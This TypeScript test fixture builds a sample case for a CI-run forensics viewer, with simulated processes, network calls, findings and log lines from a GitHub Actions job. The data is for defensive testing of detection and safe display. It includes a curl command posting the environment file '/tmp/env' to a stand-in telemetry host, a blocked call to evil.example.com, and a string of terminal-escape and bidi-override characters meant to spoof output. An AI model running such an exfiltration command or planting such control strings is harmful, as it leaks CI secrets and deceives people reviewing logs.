/**
 * A small, hand-built case for the query and CLI tests: rows inserted directly into a case made with `createCase`
 * (schema 1), then the indexes (migration 2) and the FTS index built — the same order the importer uses.
 * Time t0 = 2026-10-14T09:12:03.100000000Z; every time below is t0 + an offset.
 */
import path from 'node:path';
import { createCase, migrate, type Db } from '../../electron/db/open';
import { parseRfc3339 } from '../../shared/time';

export const T0 = parseRfc3339('2026-10-14T09:12:03.100Z');
export const S = 1_000_000_000n;
export const at = (seconds: number, ns = 0n): bigint => T0 + BigInt(seconds) * S + ns;

export interface FixtureOptions {
  /** Store an egress policy (default true). */
  policy?: boolean;
  /** Extra filler rows for the query-plan test (network calls, log lines). */
  filler?: { network: number; logs: number };
}

/** Ids of the interesting rows, for assertions. */
export const IDS = {
  worker: 1, bash: 2, node: 3, curl: 4, bg: 5,
  stepSetup: 1, stepCheckout: 2, stepTest: 3,
  callTelemetry: 1, callBareIp: 2, callGithub: 3, callBlocked: 4, callGithub2: 5,
  findingTelemetry: 1, findingBareIp: 2, findingBlocked: 3, findingProducer: 4,
} as const;

/** Control characters an attacker might plant in bundle text (ESC, CR, C1 CSI, bidi override). */
export const HOSTILE = 'evil\x1b[2J\rX\u009b31m\u202egnp.exe';

export function buildCase(dir: string, opts: FixtureOptions = {}): string {
  const file = path.join(dir, 'fixture.runlens');
  const db = createCase(file);
  fill(db, opts);
  migrate(db);
  db.exec(`INSERT INTO log_fts(log_fts) VALUES('rebuild')`);
  db.close();
  return file;
}

function fill(db: Db, opts: FixtureOptions): void {
  const policy = opts.policy ?? true;
  const tx = db.transaction(() => {
    const meta = db.prepare('INSERT INTO meta(key, value) VALUES (?, ?)');
    meta.run('run', JSON.stringify({ repository: 'acme/web', workflow: 'CI', job: 'test', run_id: 18311492377 }));
    if (policy) meta.run('policy', JSON.stringify({ egress_policy: 'audit', allowed_endpoints: ['github.com:443', '*.example.org:443'] }));

    const src = db.prepare('INSERT INTO sources(id, parent_id, path, member, format, sha256, bytes) VALUES (?,?,?,?,?,?,?)');
    src.run(1, null, '/evidence/bundle.zip', null, null, 'a'.repeat(64), 4096);
    src.run(2, 1, '/evidence/bundle.zip!/network.jsonl', 'network.jsonl', 'bundle-network', 'b'.repeat(64), 900);
    src.run(3, 1, '/evidence/bundle.zip!/processes.jsonl', 'processes.jsonl', 'bundle-processes', 'c'.repeat(64), 700);
    src.run(4, 1, '/evidence/bundle.zip!/logs/test/3_Run npm test.txt', 'logs/test/3_Run npm test.txt', 'gha-log', 'd'.repeat(64), 800);
    db.prepare('INSERT INTO warnings(source_id, file, line, message) VALUES (?,?,?,?)').run(
      2, '/evidence/bundle.zip!/network.jsonl', 9, 'timestamp has no zone: 2026-10-14T09:12:40',
    );

    const step = db.prepare(
      'INSERT INTO steps(id, job, number, name, uses, started_at, completed_at, conclusion, origin) VALUES (?,?,?,?,?,?,?,?,?)',
    );
    step.run(1, 'test', 1, 'Set up job', null, at(0), at(2), 'success', 'manifest');
    step.run(2, 'test', 2, 'Run actions/checkout@v4', 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683', at(2), at(10), 'success', 'manifest');
    step.run(3, 'test', 3, 'Run npm test', null, at(10), at(60), 'success', 'manifest');

    const proc = db.prepare(
      `INSERT INTO processes(id, pid, ppid, parent_id, start, end, exe, args, cwd, uid, exit_code, step_id, depth, source_id, line, raw)
       VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)`,
    );
    const cwd = '/home/runner/work/web/web';
    proc.run(1, 100, 1, null, at(0), null, '/home/runner/actions-runner/bin/Runner.Worker', '["Runner.Worker","spawnclient","109","112"]', '/home/runner', 1001, null, null, 0, 3, 1, '{"event":"exec","pid":100}');
    proc.run(2, 200, 100, 1, at(10), at(59), '/usr/bin/bash', '["bash","-e","/home/runner/work/_temp/script.sh"]', cwd, 1001, 0, 3, 1, 3, 2, '{"event":"exec","pid":200}');
    proc.run(3, 300, 200, 2, at(11), at(58), '/usr/local/bin/node', '["node","scripts/test.js"]', cwd, 1001, 0, 3, 2, 3, 3, '{"event":"exec","pid":300}');
    proc.run(4, 4721, 300, 3, at(20), at(21), '/usr/bin/curl', JSON.stringify(['curl', '-sS', '-d', '@/tmp/env', 'https://telemetry.example.net/v2/collect', HOSTILE]), cwd, 1001, 0, 3, 3, 3, 4, '{"event":"exec","pid":4721}');
    // A background process left by the checkout step, still calling during step 3.
    proc.run(5, 500, 100, 1, at(5), null, '/usr/bin/sh', '["sh","-c","while true; do sleep 10; done"]', cwd, 1001, null, 2, 1, 3, 5, '{"event":"exec","pid":500}');

    const pev = db.prepare('INSERT INTO process_events(ts, event, pid, ppid, exe, origin, process_id, source_id, line, raw) VALUES (?,?,?,?,?,?,?,?,?,?)');
    pev.run(at(20), 'exec', 4721, 300, '/usr/bin/curl', 'events', 4, 3, 4, '{"event":"exec","pid":4721}');
    pev.run(at(21), 'exit', 4721, null, null, 'events', 4, 3, 6, '{"event":"exit","pid":4721}');

    db.prepare('INSERT INTO findings(id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen) VALUES (?,?,?,?,?,?,?,?,?,?)').run(
      1, 'anomalous-endpoint', '["anomalous-endpoint"]', 'high', 'viewer', 'telemetry.example.net:443', 'Call outside the allow-list', 1, at(20, 417n), at(20, 417n));
    db.prepare('INSERT INTO findings(id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen) VALUES (?,?,?,?,?,?,?,?,?,?)').run(
      2, 'anomalous-endpoint', '["anomalous-endpoint"]', 'medium', 'viewer', '198.51.100.2:443', 'Call outside the allow-list', 1, at(30), at(30));
    db.prepare('INSERT INTO findings(id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen) VALUES (?,?,?,?,?,?,?,?,?,?)').run(
      3, 'blocked-call', '["blocked-call","anomalous-endpoint"]', 'high', 'viewer', 'evil.example.com:443', 'Blocked call', 1, at(40), at(40));
    db.prepare(`INSERT INTO detections(id, det_id, kind, severity, title, ts, endpoint, pid, process_id, source_id, line, raw) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)`).run(
      1, 'd1', 'suspicious-process', 'low', 'curl posting a file', at(20), null, 4721, 4, 1, 1, '{"id":"d1"}');
    db.prepare('INSERT INTO findings(id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen, detection_id) VALUES (?,?,?,?,?,?,?,?,?,?,?)').run(
      4, 'suspicious-process', '["suspicious-process"]', 'low', 'producer', null, 'curl posting a file', 0, at(20), at(20), 1);

    const net = db.prepare(
      `INSERT INTO network(id, ts, pid, process_name, process_id, domain, domain_origin, ip, port, protocol, status, http_method,
         http_host, http_path, http_status, endpoint, verdict, finding_id, step_id, running_step_id, source_id, line, raw)
       VALUES (@id, @ts, @pid, @pname, @proc, @domain, @dorigin, @ip, @port, 'tcp', @status, @method, @host, @path, @code,
         @endpoint, @verdict, @finding, @step, @running, 2, @line, @raw)`,
    );
    const call = (o: Record<string, unknown>) =>
      net.run({ pname: null, dorigin: 'record', method: null, host: null, path: null, code: null, status: 'allowed', raw: '{}', ...o });
    call({ id: 1, ts: at(20, 417n), pid: 4721, proc: 4, domain: 'telemetry.example.net', ip: '198.51.100.23', port: 443,
      method: 'POST', host: 'telemetry.example.net', path: '/v2/collect', code: 202, endpoint: 'telemetry.example.net:443',
      verdict: policy ? 'outside-policy' : 'no-policy', finding: policy ? 1 : null, step: 3, running: 3, line: 1,
      raw: '{"ts":"2026-10-14T09:12:23.100000417Z","pid":4721,"domain":"telemetry.example.net","ip":"198.51.100.23","port":443}' });
    call({ id: 2, ts: at(30), pid: 500, proc: 5, domain: null, ip: '198.51.100.2', port: 443, endpoint: '198.51.100.2:443',
      verdict: policy ? 'outside-policy' : 'no-policy', finding: policy ? 2 : null, step: 2, running: 3, line: 2 });
    call({ id: 3, ts: at(12), pid: 300, proc: 3, domain: 'github.com', ip: '140.82.112.3', port: 443, endpoint: 'github.com:443',
      verdict: policy ? 'allowed-by-policy' : 'no-policy', finding: null, step: 3, running: 3, line: 3 });
    call({ id: 4, ts: at(40), pid: 300, proc: 3, domain: 'evil.example.com', ip: '203.0.113.9', port: 443, status: 'blocked',
      endpoint: 'evil.example.com:443', verdict: 'blocked', finding: policy ? 3 : null, step: 3, running: 3, line: 4 });
    call({ id: 5, ts: at(50), pid: 300, proc: 3, domain: 'github.com', ip: '140.82.112.3', port: 80, endpoint: 'github.com:80',
      verdict: policy ? 'outside-policy' : 'no-policy', finding: null, step: 3, running: 3, line: 5 });

    const log = db.prepare(
      `INSERT INTO log_lines(id, job, step_id, step_number, seq, ts, raw, text, marker, depth, file_kind, source_id, line, line_end)
       VALUES (?, 'test', ?, ?, ?, ?, ?, ?, ?, 0, 'step', 4, ?, ?)`,
    );
    let id = 0;
    const line = (step: number, ts: bigint | null, text: string, raw = text, marker: string | null = null) => {
      id++;
      log.run(id, step, step, id, ts, raw, text, marker, id, id);
    };
    line(1, at(0, 1n), 'Current runner version: 2.329.0');
    line(2, at(3), 'Syncing repository: acme/web');
    line(3, at(10, 5n), 'Run npm test', '##[group]Run npm test', 'group');
    line(3, at(19), 'POSTing env to telemetry.example.net now', '\x1b[36mPOSTing env to telemetry.example.net now\x1b[0m');
    line(3, at(20, 500n), 'curl: connected to 198.51.100.23 port 443');
    line(3, at(22), 'fallback host 198.51.100.2 is configured'); // mentions the bare-IP call only
    line(3, at(29), 'TELEMETRY.EXAMPLE.NET. replied 202'); // upper case + sentence dot: still a mention
    line(3, at(31), 'sub.telemetry.example.net and telemetry.example.network are other hosts'); // not a mention
    line(3, at(33), 'see https://github.com/acme/web/actions');
    line(3, at(45), `step output: ${HOSTILE}`);
    line(3, at(59), 'Tests passed');

    if (opts.filler) {
      for (let i = 0; i < opts.filler.logs; i++) line(3, at(60, BigInt(i) * 1000n), `filler line ${i} ok`);
      for (let i = 0; i < opts.filler.network; i++) {
        call({ id: 100 + i, ts: at(61, BigInt(i) * 1000n), pid: 300, proc: 3, domain: `h${i % 50}.example.org`, ip: '192.0.2.10',
          port: 443, endpoint: `h${i % 50}.example.org:443`, verdict: 'allowed-by-policy', finding: null, step: 3, running: 3, line: 10 + i });
      }
    }
  });
  tx();
}
